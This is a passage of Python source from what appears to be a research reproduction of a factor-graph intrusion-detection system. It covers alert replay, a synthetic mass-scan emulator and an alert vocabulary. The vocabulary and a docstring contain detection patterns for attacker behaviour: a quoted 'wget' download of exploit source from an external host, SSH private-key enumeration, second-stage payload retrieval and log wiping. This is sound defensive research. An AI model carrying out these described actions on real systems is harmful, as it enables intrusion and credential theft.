        return self.replay_into_detector(incident.sequence, detector)

    def replay_corpus(
        self,
        corpus: IncidentCorpus,
        detector_factory,
        *,
        limit: Optional[int] = None,
    ) -> dict[str, ReplayResult]:
        """Replay every incident through a fresh detector instance.

        ``detector_factory`` is called once per incident so detections
        do not leak across incidents.  Returns results keyed by incident
        identifier.
        """
        results: dict[str, ReplayResult] = {}
        incidents: Sequence[Incident] = corpus.incidents[:limit] if limit else corpus.incidents
        for incident in incidents:
            detector = detector_factory()
            results[incident.incident_id] = self.replay_incident(incident, detector)
        return results

    @staticmethod
    def sequences_to_stream(sequences: Iterable[AlertSequence]) -> list[Alert]:
        """Flatten many sequences into one time-ordered alert stream."""
        alerts: list[Alert] = []
        for sequence in sequences:
            alerts.extend(sequence)
        return sort_alerts(alerts)


__all__ = ["AlertSink", "ReplayEvent", "ReplayResult", "ReplayEngine"]
