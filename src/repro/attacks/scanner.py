"""Mass-scanner emulation (the Fig. 1 "part A" traffic).

Mass scanners sweep NCSA's /16 continuously; the black-hole router
recorded 26.85 million scans in a single hour.  The emulator produces
that traffic shape at configurable scale: one dominant scanner sweeping
the whole space, a long tail of smaller scanners, and the corresponding
Zeek connection records / black-hole-router scan records / port-scan
alerts the rest of the system consumes.
"""

from __future__ import annotations

import dataclasses
from typing import Optional, Sequence

import numpy as np

from ..core.alerts import Alert
from ..testbed.addresses import AddressBlock, PRODUCTION_NETWORK, random_external_address
from ..testbed.bhr import BlackHoleRouter, ScanRecord
from ..telemetry.zeek import ZeekMonitor

#: Scan volume recorded by the BHR on 2024-08-01 00:00-01:00 (paper Fig. 1).
PAPER_SCANS_PER_HOUR = 26_850_000

#: The sample size used for the Fig. 1 rendering.
PAPER_FIGURE_SAMPLE = 10_000


@dataclasses.dataclass(frozen=True)
class ScannerProfile:
    """Behavioural profile of one scanning source."""

    source_ip: str
    scans: int
    ports: tuple[int, ...] = (22, 80, 443, 3389, 5432, 8080)
    sweep: bool = True  # sweeps the block sequentially vs. random targets


class MassScanEmulator:
    """Generates mass-scanning traffic against a protected block."""

    def __init__(
        self,
        *,
        block: AddressBlock = PRODUCTION_NETWORK,
        seed: int = 42,
    ) -> None:
        self.block = block
        self.rng = np.random.default_rng(seed)

    # ------------------------------------------------------------------
    def default_profiles(
        self,
        *,
        total_scans: int,
        dominant_fraction: float = 0.8,
        num_minor_scanners: int = 40,
        dominant_ip: str = "103.102.166.28",
    ) -> list[ScannerProfile]:
        """The paper's scanner mix: one dominant cloud scanner plus a tail."""
        dominant = int(total_scans * dominant_fraction)
        remaining = total_scans - dominant
        profiles = [ScannerProfile(source_ip=dominant_ip, scans=dominant, sweep=True)]
        if num_minor_scanners > 0 and remaining > 0:
            shares = self.rng.dirichlet(np.ones(num_minor_scanners)) * remaining
            for share in shares:
                scans = int(share)
                if scans <= 0:
                    continue
                profiles.append(
                    ScannerProfile(
                        source_ip=random_external_address(self.rng),
                        scans=scans,
                        sweep=bool(self.rng.random() < 0.3),
                    )
                )
        return profiles

    # ------------------------------------------------------------------
    def generate_scan_records(
        self,
        profiles: Sequence[ScannerProfile],
        *,
        start_time: float = 0.0,
        duration_seconds: float = 3600.0,
    ) -> list[ScanRecord]:
        """Raw scan records (what the black-hole router sees)."""
        records: list[ScanRecord] = []
        for profile in profiles:
            times = np.sort(
                self.rng.uniform(start_time, start_time + duration_seconds, size=profile.scans)
            )
            ports = self.rng.choice(profile.ports, size=profile.scans)
            if profile.sweep:
                offsets = np.arange(profile.scans) % self.block.size
            else:
                offsets = self.rng.integers(0, self.block.size, size=profile.scans)
            for ts, port, offset in zip(times, ports, offsets):
                records.append(
                    ScanRecord(
                        timestamp=float(ts),
                        source_ip=profile.source_ip,
                        destination_ip=self.block.address_at(int(offset)),
                        destination_port=int(port),
                    )
                )
        records.sort(key=lambda r: r.timestamp)
        return records

    def feed_router(
        self,
        router: BlackHoleRouter,
        profiles: Sequence[ScannerProfile],
        *,
        start_time: float = 0.0,
        duration_seconds: float = 3600.0,
    ) -> int:
        """Generate scan records and feed them to the black-hole router."""
        records = self.generate_scan_records(
            profiles, start_time=start_time, duration_seconds=duration_seconds
        )
        router.record_scans(records)
        return len(records)

    # ------------------------------------------------------------------
    def to_zeek(
        self,
        records: Sequence[ScanRecord],
        monitor: Optional[ZeekMonitor] = None,
    ) -> ZeekMonitor:
        """Render scan records as half-open Zeek connections."""
        monitor = monitor or ZeekMonitor("zeek-border")
        for record in records:
            monitor.record_connection(
                record.timestamp,
                record.source_ip,
                int(self.rng.integers(1024, 65535)),
                record.destination_ip,
                record.destination_port,
                conn_state="S0",
            )
        return monitor

    def to_alerts(self, records: Sequence[ScanRecord]) -> list[Alert]:
        """Render scan records as (pre-filter) port-scan alerts."""
        return [
            Alert(
                timestamp=record.timestamp,
                name="alert_port_scan",
                entity=f"host:{record.destination_ip}",
                source_ip=record.source_ip,
                host=record.destination_ip,
                monitor="zeek",
                attributes={"port": record.destination_port},
            )
            for record in records
        ]

    # ------------------------------------------------------------------
    def sample_most_frequent(
        self, records: Sequence[ScanRecord], *, sample_size: int = PAPER_FIGURE_SAMPLE
    ) -> list[ScanRecord]:
        """The paper's Fig. 1 sampling: the N most frequent scans of one scanner.

        The dominant scanner's records are taken first (most frequent
        source); within that source the earliest ``sample_size`` records
        are kept, mirroring "we sampled 10,000 most frequent scans from
        a mass scanner".
        """
        if not records:
            return []
        counts: dict[str, int] = {}
        for record in records:
            counts[record.source_ip] = counts.get(record.source_ip, 0) + 1
        dominant = max(counts, key=counts.get)
        dominant_records = [r for r in records if r.source_ip == dominant]
        return dominant_records[:sample_size]


__all__ = [
    "PAPER_SCANS_PER_HOUR",
    "PAPER_FIGURE_SAMPLE",
    "ScannerProfile",
    "MassScanEmulator",
]
