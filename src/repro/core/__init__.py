"""Core preemption models: alerts, sequences, factor graphs, detectors.

This subpackage implements the paper's primary contribution -- the
ATTACKTAGGER-style factor-graph preemption model -- together with the
baselines it is compared against and the evaluation machinery used by
the benchmarks.
"""

from .alerts import (
    Alert,
    AlertCategory,
    AlertTypeSpec,
    AlertVocabulary,
    DEFAULT_VOCABULARY,
    Severity,
    build_default_vocabulary,
    sort_alerts,
)
from .attack_tagger import AttackTagger, Detection, DetectionTrace, EntityTrack, PatternSpec
from .baselines import CriticalAlertDetector, NaiveBayesDetector, NaiveBayesParameters
from .detector import Detector
from .evaluation import (
    ConfusionCounts,
    CrossValidationResult,
    EvaluationExample,
    EvaluationReport,
    compare_detectors,
    cross_validate,
    evaluate_detector,
    threshold_sweep,
    window_sweep,
)
from .factor_graph import (
    Factor,
    FactorGraph,
    Variable,
    chain_map_decode,
    chain_map_decode_batch,
    chain_marginals,
    chain_marginals_batch,
    chain_step_matrix,
    chain_stream_trace_batch,
    logsumexp_matmul,
    logsumexp_vecmat,
    maxplus_matmul,
    maxplus_vecmat,
)
from .sliding_window import SlidingProductWindow
from .factors import FactorParameters, default_parameters
from .preemption import (
    DamageBoundary,
    PreemptionOutcome,
    PreemptionResult,
    evaluate_preemption,
    find_damage_boundary,
    preemptable_window,
    summarize_outcomes,
)
from .rule_based import Rule, RuleBasedDetector, RuleKind, default_ruleset
from .sequences import (
    AlertSequence,
    fraction_of_pairs_below,
    is_subsequence,
    jaccard_similarity,
    lcs_length,
    lcs_length_matrix,
    longest_common_subsequence,
    matched_prefix_length,
    pairwise_jaccard_matrix,
    similarity_cdf,
    subsequence_positions,
)
from .streaming import PatternCursor, StreamingDecoder, WeightedPattern
from .states import AttackStage, HiddenState, NUM_STATES
from .training import (
    LabeledSequence,
    ParameterEstimator,
    TrainingSummary,
    label_sequence_from_stages,
    train_from_incidents,
)

__all__ = [
    # alerts
    "Alert",
    "AlertCategory",
    "AlertTypeSpec",
    "AlertVocabulary",
    "DEFAULT_VOCABULARY",
    "Severity",
    "build_default_vocabulary",
    "sort_alerts",
    # states
    "AttackStage",
    "HiddenState",
    "NUM_STATES",
    # sequences
    "AlertSequence",
    "jaccard_similarity",
    "pairwise_jaccard_matrix",
    "similarity_cdf",
    "fraction_of_pairs_below",
    "longest_common_subsequence",
    "lcs_length",
    "lcs_length_matrix",
    "is_subsequence",
    "subsequence_positions",
    "matched_prefix_length",
    # factor graph
    "Variable",
    "Factor",
    "FactorGraph",
    "chain_map_decode",
    "chain_marginals",
    "chain_map_decode_batch",
    "chain_marginals_batch",
    "chain_stream_trace_batch",
    "chain_step_matrix",
    "maxplus_matmul",
    "maxplus_vecmat",
    "logsumexp_matmul",
    "logsumexp_vecmat",
    "SlidingProductWindow",
    "FactorParameters",
    "default_parameters",
    # training
    "LabeledSequence",
    "ParameterEstimator",
    "TrainingSummary",
    "label_sequence_from_stages",
    "train_from_incidents",
    # detectors
    "Detector",
    "AttackTagger",
    "Detection",
    "DetectionTrace",
    "EntityTrack",
    "PatternSpec",
    "StreamingDecoder",
    "PatternCursor",
    "WeightedPattern",
    "RuleBasedDetector",
    "Rule",
    "RuleKind",
    "default_ruleset",
    "CriticalAlertDetector",
    "NaiveBayesDetector",
    "NaiveBayesParameters",
    # preemption & evaluation
    "PreemptionOutcome",
    "PreemptionResult",
    "DamageBoundary",
    "find_damage_boundary",
    "evaluate_preemption",
    "preemptable_window",
    "summarize_outcomes",
    "EvaluationExample",
    "EvaluationReport",
    "ConfusionCounts",
    "CrossValidationResult",
    "evaluate_detector",
    "window_sweep",
    "threshold_sweep",
    "cross_validate",
    "compare_detectors",
]
