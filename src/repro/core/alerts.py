"""Symbolic alert vocabulary and the :class:`Alert` record.

The paper's data pre-processing step maps every raw log message to a
*symbolic name indicating the attacker's intention* plus sanitised
metadata.  For example the raw Zeek/HTTP log line::

    23:15:22 [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK") [7036]

becomes the symbol ``alert_download_sensitive`` with metadata
``host=internal-host, source_ip=64.215.xxx.yyy``.

This module defines

* :class:`AlertCategory` and :class:`Severity` -- coarse taxonomy axes,
* :class:`AlertType` -- the registry of symbolic alert names together
  with their category, severity, lifecycle stage and criticality,
* :class:`Alert` -- a single normalised, sanitised alert observation,
  the unit every detector in :mod:`repro.core` consumes.

The vocabulary reproduces (a superset of) the alert families discussed
in the paper: mass scanning and brute-force attempts, the recurrent
download/compile/erase pattern first seen in 2002, credential misuse,
PostgreSQL ransomware behaviour (version probing, ``largeobject`` ELF
staging, ``/tmp/kp`` creation), SSH-key-based lateral movement, C2
beaconing, and the 19 *critical* alerts whose presence indicates that
damage has already occurred (privilege escalation, PII in outbound
HTTP, mass file encryption, forensic-trace wiping, and so on).
"""

from __future__ import annotations

import dataclasses
import enum
import struct
from typing import Any, Iterator, Mapping, Optional, Sequence

import numpy as np

from .states import AttackStage


class AlertCategory(enum.Enum):
    """Coarse grouping of alert types by the behaviour they describe."""

    BENIGN = "benign"
    SCANNING = "scanning"
    AUTHENTICATION = "authentication"
    DOWNLOAD = "download"
    EXECUTION = "execution"
    PRIVILEGE = "privilege"
    PERSISTENCE = "persistence"
    DATABASE = "database"
    LATERAL_MOVEMENT = "lateral_movement"
    COMMAND_CONTROL = "command_control"
    EXFILTRATION = "exfiltration"
    DESTRUCTION = "destruction"
    ANTI_FORENSICS = "anti_forensics"
    MALWARE = "malware"


class Severity(enum.IntEnum):
    """Operator-facing severity, ordered from informational to critical."""

    INFO = 0
    LOW = 1
    MEDIUM = 2
    HIGH = 3
    CRITICAL = 4


@dataclasses.dataclass(frozen=True)
class AlertTypeSpec:
    """Static description of one symbolic alert name."""

    name: str
    category: AlertCategory
    severity: Severity
    stage: AttackStage
    critical: bool = False
    description: str = ""

    def __post_init__(self) -> None:
        if not self.name.startswith("alert_"):
            raise ValueError(f"alert type names must start with 'alert_': {self.name!r}")
        if self.critical and self.severity is not Severity.CRITICAL:
            raise ValueError(f"critical alert {self.name!r} must have CRITICAL severity")


class AlertVocabulary:
    """Registry of all symbolic alert types known to the system.

    The vocabulary is the single source of truth that the normaliser
    (:mod:`repro.telemetry.normalizer`), the incident generator
    (:mod:`repro.incidents.generator`) and the detectors share.  It is
    intentionally a plain registry object (not module-level globals
    mutated at import time) so tests can build restricted vocabularies.
    """

    def __init__(self) -> None:
        self._specs: dict[str, AlertTypeSpec] = {}
        self._index: dict[str, int] = {}

    # -- registration ---------------------------------------------------
    def register(self, spec: AlertTypeSpec) -> AlertTypeSpec:
        """Register ``spec``; duplicate names are rejected."""
        if spec.name in self._specs:
            raise ValueError(f"alert type already registered: {spec.name}")
        self._index[spec.name] = len(self._specs)
        self._specs[spec.name] = spec
        return spec

    def define(
        self,
        name: str,
        category: AlertCategory,
        severity: Severity,
        stage: AttackStage,
        *,
        critical: bool = False,
        description: str = "",
    ) -> AlertTypeSpec:
        """Convenience wrapper around :meth:`register`."""
        return self.register(
            AlertTypeSpec(
                name=name,
                category=category,
                severity=severity,
                stage=stage,
                critical=critical,
                description=description,
            )
        )

    # -- lookup ----------------------------------------------------------
    def __contains__(self, name: str) -> bool:
        return name in self._specs

    def __len__(self) -> int:
        return len(self._specs)

    def __iter__(self) -> Iterator[AlertTypeSpec]:
        return iter(self._specs.values())

    def get(self, name: str) -> AlertTypeSpec:
        """Return the spec for ``name``; :class:`KeyError` if unknown."""
        return self._specs[name]

    def index_of(self, name: str) -> int:
        """Stable integer index of an alert type (for vectorised code)."""
        return self._index[name]

    def names(self) -> list[str]:
        """All registered names, in registration order."""
        return list(self._specs)

    def critical_names(self) -> list[str]:
        """Names of all critical alert types."""
        return [s.name for s in self if s.critical]

    def names_for_stage(self, stage: AttackStage) -> list[str]:
        """Names of alert types associated with ``stage``."""
        return [s.name for s in self if s.stage is stage]

    def names_for_category(self, category: AlertCategory) -> list[str]:
        """Names of alert types in ``category``."""
        return [s.name for s in self if s.category is category]


def build_default_vocabulary() -> AlertVocabulary:
    """Build the default vocabulary used throughout the reproduction.

    The set covers every behaviour named in the paper plus the common
    HPC-intrusion behaviours of the referenced AttackTagger studies.
    Exactly 19 alert types are flagged critical, matching the paper's
    Insight 4 ("the entire dataset has 19 such unique critical alerts").
    """
    v = AlertVocabulary()
    C, S, St = AlertCategory, Severity, AttackStage

    # -- benign / background -------------------------------------------
    v.define("alert_login_normal", C.BENIGN, S.INFO, St.BACKGROUND,
             description="Interactive login consistent with the user's history.")
    v.define("alert_job_submission", C.BENIGN, S.INFO, St.BACKGROUND,
             description="Batch job submitted to the scheduler.")
    v.define("alert_file_transfer", C.BENIGN, S.INFO, St.BACKGROUND,
             description="Bulk data transfer (GridFTP/scp) to a known endpoint.")
    v.define("alert_package_install", C.BENIGN, S.INFO, St.BACKGROUND,
             description="Package installation by an administrator.")
    v.define("alert_cron_job", C.BENIGN, S.INFO, St.BACKGROUND,
             description="Scheduled cron job execution.")
    v.define("alert_software_build", C.BENIGN, S.INFO, St.BACKGROUND,
             description="Compilation of user software in a home directory.")
    v.define("alert_ssh_config_change", C.BENIGN, S.LOW, St.BACKGROUND,
             description="User edited their SSH client configuration.")

    # -- scanning / reconnaissance --------------------------------------
    v.define("alert_port_scan", C.SCANNING, S.LOW, St.RECONNAISSANCE,
             description="Horizontal or vertical port scan observed at the border.")
    v.define("alert_vuln_scan", C.SCANNING, S.LOW, St.RECONNAISSANCE,
             description="Web/application vulnerability scanner signature (e.g. Struts probes).")
    v.define("alert_address_sweep", C.SCANNING, S.LOW, St.RECONNAISSANCE,
             description="Sweep across the /16 address space recorded by the black-hole router.")
    v.define("alert_db_port_probe", C.SCANNING, S.LOW, St.RECONNAISSANCE,
             description="Connection probe against a database service port (e.g. 5432/tcp).")
    v.define("alert_service_version_probe", C.DATABASE, S.MEDIUM, St.RECONNAISSANCE,
             description="Service version reconnaissance, e.g. `SHOW server_version_num`.")

    # -- authentication / foothold --------------------------------------
    v.define("alert_bruteforce_ssh", C.AUTHENTICATION, S.LOW, St.RECONNAISSANCE,
             description="SSH password brute-force attempts.")
    v.define("alert_login_failure_burst", C.AUTHENTICATION, S.LOW, St.RECONNAISSANCE,
             description="Burst of failed logins for one account.")
    v.define("alert_login_unusual_hour", C.AUTHENTICATION, S.MEDIUM, St.FOOTHOLD,
             description="Successful login at an hour unusual for the account.")
    v.define("alert_login_new_origin", C.AUTHENTICATION, S.MEDIUM, St.FOOTHOLD,
             description="Successful login from a network the account never used before.")
    v.define("alert_login_stolen_credential", C.AUTHENTICATION, S.HIGH, St.FOOTHOLD,
             description="Login using credentials known to be compromised.")
    v.define("alert_db_default_password_login", C.DATABASE, S.HIGH, St.FOOTHOLD,
             description="Authentication to a database using a default or advertised password.")
    v.define("alert_remote_code_execution", C.EXECUTION, S.HIGH, St.FOOTHOLD,
             description="Exploitation of a remote-command-execution vulnerability.")
    v.define("alert_ghost_account_login", C.AUTHENTICATION, S.HIGH, St.FOOTHOLD,
             description="Login to a decoy (ghost) account planted in a federated identity provider.")

    # -- the recurrent download / compile / erase pattern ----------------
    v.define("alert_download_sensitive", C.DOWNLOAD, S.MEDIUM, St.ESCALATION,
             description="Download of a source/binary file over unsecured HTTP (e.g. wget http://.../abs.c).")
    v.define("alert_download_exploit_kit", C.DOWNLOAD, S.HIGH, St.ESCALATION,
             description="Download of a known exploit kit or rootkit archive.")
    v.define("alert_compile_kernel_module", C.EXECUTION, S.HIGH, St.ESCALATION,
             description="Compilation of a kernel module outside the package system.")
    v.define("alert_suspicious_compile", C.EXECUTION, S.MEDIUM, St.ESCALATION,
             description="Compilation of freshly downloaded source in a temporary directory.")
    v.define("alert_tmp_executable_created", C.EXECUTION, S.MEDIUM, St.ESCALATION,
             description="Executable file created under /tmp (e.g. /tmp/kp).")

    # -- privilege escalation / installation ------------------------------
    v.define("alert_privilege_escalation", C.PRIVILEGE, S.CRITICAL, St.ESCALATION, critical=True,
             description="Unauthorized transition to uid 0 or equivalent.")
    v.define("alert_sudo_policy_violation", C.PRIVILEGE, S.HIGH, St.ESCALATION,
             description="sudo invocation outside the account's authorised command set.")
    v.define("alert_setuid_binary_created", C.PRIVILEGE, S.CRITICAL, St.ESCALATION, critical=True,
             description="New setuid-root binary appeared on a monitored host.")
    v.define("alert_kernel_module_loaded", C.PRIVILEGE, S.CRITICAL, St.ESCALATION, critical=True,
             description="Out-of-tree kernel module loaded into a production kernel.")
    v.define("alert_malicious_binary_installed", C.MALWARE, S.CRITICAL, St.ESCALATION, critical=True,
             description="Installed binary matches an entry in a malware hash database.")

    # -- persistence -------------------------------------------------------
    v.define("alert_new_ssh_key_added", C.PERSISTENCE, S.HIGH, St.PERSISTENCE,
             description="New public key appended to authorized_keys.")
    v.define("alert_backdoor_account_created", C.PERSISTENCE, S.CRITICAL, St.PERSISTENCE, critical=True,
             description="New local account created outside identity management.")
    v.define("alert_cron_implant", C.PERSISTENCE, S.HIGH, St.PERSISTENCE,
             description="Cron entry pointing at a recently created executable.")
    v.define("alert_ssh_daemon_replaced", C.PERSISTENCE, S.CRITICAL, St.PERSISTENCE, critical=True,
             description="sshd binary replaced (SSH keylogger / credential harvester).")
    v.define("alert_keylogger_detected", C.MALWARE, S.CRITICAL, St.PERSISTENCE, critical=True,
             description="SSH keylogger artefacts detected on a login node.")
    v.define("alert_rootkit_detected", C.MALWARE, S.CRITICAL, St.PERSISTENCE, critical=True,
             description="Kernel or userland rootkit signature detected.")

    # -- database-resident ransomware behaviour ---------------------------
    v.define("alert_db_largeobject_payload", C.DATABASE, S.HIGH, St.ESCALATION,
             description="ELF magic (7F 45 4C 46) observed in a PostgreSQL largeobject write.")
    v.define("alert_db_file_export", C.DATABASE, S.HIGH, St.ESCALATION,
             description="Database file-export primitive (lo_export) writing to the filesystem.")
    v.define("alert_db_table_drop_burst", C.DESTRUCTION, S.CRITICAL, St.ACTIONS, critical=True,
             description="Burst of DROP TABLE / TRUNCATE statements.")
    v.define("alert_ransom_note_created", C.DESTRUCTION, S.CRITICAL, St.ACTIONS, critical=True,
             description="Ransom note file created on disk or in a database table.")
    v.define("alert_mass_file_encryption", C.DESTRUCTION, S.CRITICAL, St.ACTIONS, critical=True,
             description="High-rate file rewrite consistent with bulk encryption.")

    # -- lateral movement ---------------------------------------------------
    v.define("alert_ssh_key_enumeration", C.LATERAL_MOVEMENT, S.HIGH, St.LATERAL,
             description="Bulk enumeration of private SSH keys (find ... id_rsa).")
    v.define("alert_known_hosts_enumeration", C.LATERAL_MOVEMENT, S.HIGH, St.LATERAL,
             description="Harvesting of known_hosts / ssh config / bash history for targets.")
    v.define("alert_lateral_ssh_batch", C.LATERAL_MOVEMENT, S.HIGH, St.LATERAL,
             description="Batch-mode SSH fan-out to many historical hosts using stolen keys.")
    v.define("alert_ssh_scanning_outbound", C.LATERAL_MOVEMENT, S.HIGH, St.LATERAL,
             description="Outbound SSH scanning from an internal host.")
    v.define("alert_internal_host_compromise", C.LATERAL_MOVEMENT, S.CRITICAL, St.LATERAL, critical=True,
             description="Confirmed compromise of an additional internal host.")

    # -- command and control -------------------------------------------------
    v.define("alert_outbound_c2", C.COMMAND_CONTROL, S.HIGH, St.COMMAND_CONTROL,
             description="Beaconing to a known or suspected command-and-control server.")
    v.define("alert_irc_connection", C.COMMAND_CONTROL, S.MEDIUM, St.COMMAND_CONTROL,
             description="IRC connection from a compute or service node.")
    v.define("alert_dns_tunnel", C.COMMAND_CONTROL, S.HIGH, St.COMMAND_CONTROL,
             description="DNS tunneling signature in outbound queries.")
    v.define("alert_icmp_tunnel", C.COMMAND_CONTROL, S.HIGH, St.COMMAND_CONTROL,
             description="ICMP tunneling tool traffic.")
    v.define("alert_download_second_stage", C.COMMAND_CONTROL, S.HIGH, St.COMMAND_CONTROL,
             description="Retrieval of a second-stage payload (e.g. ldr.sh, sys.x86_64).")

    # -- exfiltration / damage -----------------------------------------------
    v.define("alert_pii_in_http", C.EXFILTRATION, S.CRITICAL, St.ACTIONS, critical=True,
             description="Personally identifiable information in an outgoing HTTP request.")
    v.define("alert_data_exfiltration", C.EXFILTRATION, S.CRITICAL, St.ACTIONS, critical=True,
             description="Bulk outbound transfer of protected data.")
    v.define("alert_credential_dump_upload", C.EXFILTRATION, S.CRITICAL, St.ACTIONS, critical=True,
             description="Upload of harvested credentials to an external host.")
    v.define("alert_research_data_staging", C.EXFILTRATION, S.HIGH, St.ACTIONS,
             description="Large archive of project data staged in a world-readable path.")
    v.define("alert_cryptomining", C.EXECUTION, S.CRITICAL, St.ACTIONS, critical=True,
             description="Cryptocurrency miner consuming allocation hours.")

    # -- anti-forensics --------------------------------------------------------
    v.define("alert_erase_forensic_trace", C.ANTI_FORENSICS, S.HIGH, St.ACTIONS,
             description="Truncation of wtmp/secure/cron logs or shell history.")
    v.define("alert_log_tamper", C.ANTI_FORENSICS, S.CRITICAL, St.ACTIONS, critical=True,
             description="Modification of audit or syslog configuration to suppress records.")
    v.define("alert_timestomp", C.ANTI_FORENSICS, S.CRITICAL, St.ACTIONS, critical=True,
             description="File timestamps rewritten to hide modification.")
    v.define("alert_monitor_disabled", C.ANTI_FORENSICS, S.CRITICAL, St.ACTIONS, critical=True,
             description="Host monitor (osquery/ossec/auditd) stopped or unloaded.")

    # -- auxiliary notice types -------------------------------------------------
    # A production Zeek/OSSEC deployment raises hundreds of distinct notice
    # types beyond the core attack vocabulary above.  These auxiliary types
    # appear as incident-specific supporting evidence (and as noise in benign
    # traffic); none of them is critical and none participates in the S1..S43
    # catalogue, but they are what makes real attack pairs share only a
    # minority of their alerts (Fig. 3a).
    aux_recon = [
        ("alert_struts_probe", "Apache Struts exploitation probe (CVE-2017-5638 style)."),
        ("alert_sql_injection_attempt", "SQL injection attempt against a web application."),
        ("alert_xss_probe", "Cross-site-scripting probe."),
        ("alert_ftp_anonymous_login", "Anonymous FTP login attempt."),
        ("alert_telnet_login_attempt", "Telnet login attempt on a legacy port."),
        ("alert_smtp_relay_probe", "Open SMTP relay probe."),
        ("alert_dns_amplification_probe", "DNS amplification reflection probe."),
        ("alert_ntp_monlist_probe", "NTP monlist amplification probe."),
        ("alert_snmp_public_query", "SNMP query with the default public community."),
        ("alert_rdp_bruteforce", "RDP password brute-force."),
        ("alert_vnc_open_port", "Exposed VNC service discovered."),
        ("alert_redis_unauth_access", "Unauthenticated Redis access."),
        ("alert_mongodb_unauth_access", "Unauthenticated MongoDB access."),
        ("alert_elasticsearch_open_index", "World-readable Elasticsearch index."),
        ("alert_docker_api_exposed", "Unauthenticated Docker API probe."),
        ("alert_k8s_api_probe", "Kubernetes API server probe."),
        ("alert_jupyter_open_notebook", "Unauthenticated Jupyter notebook reached."),
        ("alert_smb_scan", "SMB share scan."),
        ("alert_ipmi_probe", "IPMI/BMC interface probe."),
        ("alert_password_spray", "Low-and-slow password spraying."),
    ]
    for name, description in aux_recon:
        v.define(name, C.SCANNING, S.LOW, St.RECONNAISSANCE, description=description)
    aux_foothold = [
        ("alert_webshell_upload", "Web shell uploaded to a document root."),
        ("alert_cve_exploit_attempt", "Exploit attempt matching a known CVE signature."),
        ("alert_phishing_landing", "Connection to a known phishing landing page."),
        ("alert_tor_exit_connection", "Session originating from a Tor exit node."),
        ("alert_geoip_anomaly", "Login geolocation inconsistent with travel history."),
        ("alert_useragent_anomaly", "Anomalous client software fingerprint."),
        ("alert_ssh_protocol_mismatch", "Malformed SSH protocol exchange."),
        ("alert_gridftp_anomaly", "Anomalous GridFTP transfer pattern."),
    ]
    for name, description in aux_foothold:
        v.define(name, C.AUTHENTICATION, S.MEDIUM, St.FOOTHOLD, description=description)
    aux_c2 = [
        ("alert_beacon_periodicity", "Periodic outbound beaconing detected."),
        ("alert_certificate_invalid", "Outbound TLS session with an invalid certificate."),
        ("alert_dynamic_dns_lookup", "Lookup of a dynamic-DNS rendezvous domain."),
        ("alert_uncommon_port_egress", "Outbound connection on an uncommon port."),
    ]
    for name, description in aux_c2:
        v.define(name, C.COMMAND_CONTROL, S.MEDIUM, St.COMMAND_CONTROL, description=description)

    expected_critical = 19
    actual_critical = len(v.critical_names())
    if actual_critical != expected_critical:
        raise AssertionError(
            f"default vocabulary must define exactly {expected_critical} critical alerts, "
            f"got {actual_critical}"
        )
    return v


#: Module-level default vocabulary instance shared by library code.
DEFAULT_VOCABULARY: AlertVocabulary = build_default_vocabulary()


@dataclasses.dataclass(frozen=True, order=True)
class Alert:
    """A single normalised, sanitised alert observation.

    Attributes
    ----------
    timestamp:
        POSIX timestamp (seconds) of the underlying log record.  The
        paper keeps timestamps during sanitisation precisely because
        inter-alert timing carries signal (Insight 3).
    name:
        Symbolic alert type name (must exist in the vocabulary used by
        the consuming component).
    entity:
        The monitored entity the alert is attributed to -- a user
        account (``user:alice``) or a host (``host:login1``).  The
        attribution rules in §III.B key detection on this field.
    source_ip / host:
        Sanitised origin metadata retained from the raw log.
    monitor:
        Which monitor produced the raw record (``zeek``, ``syslog``,
        ``auditd``, ``osquery``).
    attributes:
        Any extra sanitised key/value metadata.
    """

    timestamp: float
    name: str
    entity: str
    source_ip: str = ""
    host: str = ""
    monitor: str = ""
    attributes: Mapping[str, Any] = dataclasses.field(default_factory=dict, compare=False)

    def spec(self, vocabulary: Optional[AlertVocabulary] = None) -> AlertTypeSpec:
        """Resolve this alert's type spec against ``vocabulary``."""
        return (vocabulary or DEFAULT_VOCABULARY).get(self.name)

    def is_critical(self, vocabulary: Optional[AlertVocabulary] = None) -> bool:
        """Whether this alert is one of the critical (post-damage) alerts."""
        return self.spec(vocabulary).critical

    def stage(self, vocabulary: Optional[AlertVocabulary] = None) -> AttackStage:
        """Lifecycle stage associated with this alert's type."""
        return self.spec(vocabulary).stage

    def severity(self, vocabulary: Optional[AlertVocabulary] = None) -> Severity:
        """Severity associated with this alert's type."""
        return self.spec(vocabulary).severity

    def with_entity(self, entity: str) -> "Alert":
        """Return a copy attributed to a different entity."""
        return dataclasses.replace(self, entity=entity)

    def to_dict(self) -> dict[str, Any]:
        """JSON-serialisable representation."""
        return {
            "timestamp": self.timestamp,
            "name": self.name,
            "entity": self.entity,
            "source_ip": self.source_ip,
            "host": self.host,
            "monitor": self.monitor,
            "attributes": dict(self.attributes),
        }

    @classmethod
    def from_dict(cls, data: Mapping[str, Any]) -> "Alert":
        """Inverse of :meth:`to_dict`."""
        return cls(
            timestamp=float(data["timestamp"]),
            name=str(data["name"]),
            entity=str(data["entity"]),
            source_ip=str(data.get("source_ip", "")),
            host=str(data.get("host", "")),
            monitor=str(data.get("monitor", "")),
            attributes=dict(data.get("attributes", {})),
        )


def sort_alerts(alerts: list[Alert]) -> list[Alert]:
    """Return ``alerts`` sorted by timestamp (stable)."""
    return sorted(alerts, key=lambda a: a.timestamp)


#: Columnar wire representation of an alert batch: parallel tuples of
#: ``(timestamps, names, entities, source_ips, hosts, monitors,
#: attributes)``.  ``attributes`` is ``None`` when every alert in the
#: batch has empty attributes (the common case for replayed incident
#: streams), else a tuple of per-alert dicts.
AlertColumns = tuple


def pack_alert_columns(alerts: Sequence[Alert]) -> AlertColumns:
    """Pack an alert batch into the columnar wire representation.

    Pickling a batch of :class:`Alert` dataclass instances pays a
    per-object reconstruction cost (class reference, field dict) on
    both sides of a process boundary.  Parallel tuples of primitive
    fields pickle as flat buffers instead; the receiving side rebuilds
    the ``Alert`` objects with :func:`unpack_alert_columns`, moving
    that reconstruction cost onto the (parallel) worker.
    """
    attributes: Optional[tuple] = None
    if any(a.attributes for a in alerts):
        attributes = tuple(dict(a.attributes) for a in alerts)
    return (
        tuple(a.timestamp for a in alerts),
        tuple(a.name for a in alerts),
        tuple(a.entity for a in alerts),
        tuple(a.source_ip for a in alerts),
        tuple(a.host for a in alerts),
        tuple(a.monitor for a in alerts),
        attributes,
    )


def unpack_alert_columns(columns: AlertColumns) -> list[Alert]:
    """Rebuild the alert batch packed by :func:`pack_alert_columns`."""
    timestamps, names, entities, source_ips, hosts, monitors, attributes = columns
    if attributes is None:
        return [
